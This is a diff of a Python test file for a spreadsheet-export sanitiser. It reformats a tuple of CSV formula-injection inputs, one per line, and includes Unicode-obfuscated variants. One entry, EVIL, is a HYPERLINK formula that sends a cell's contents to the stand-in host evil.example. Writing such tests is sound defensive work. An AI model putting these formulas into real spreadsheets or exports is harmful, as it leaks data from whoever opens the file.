@@ -15,9 +15,27 @@ from basketry.spreadsheets import csv_line, harmless, harmless_table
 EVIL = '=HYPERLINK("http://evil.example/?"&C2,"Jane Roe")'
 RUN = (
     EVIL,
-    "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\u00a0=1", "\u200b@x", "\ufeff+x", "\uff1d1+1", "\uff0bcmd", "\uff0d1",
-    "\uff20x", " \uff1dx", "+1 (212) 555-0143", "+12125550143=1", "+12125550143\n=1", "=", "+12",
-)  # fmt: skip
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+    "\nx",
+    " =1",
+    "\u00a0=1",
+    "\u200b@x",
+    "\ufeff+x",
+    "\uff1d1+1",
+    "\uff0bcmd",
+    "\uff0d1",
+    "\uff20x",
+    " \uff1dx",
+    "+1 (212) 555-0143",
+    "+12125550143=1",
+    "+12125550143\n=1",
+    "=",
+    "+12",
+)
 LEFT = ("Jane Roe", "a=b", "+12125550143", "+4930231250", "1-2", "", "'=1", "O'Neil; x", "x\t=1")
 
 
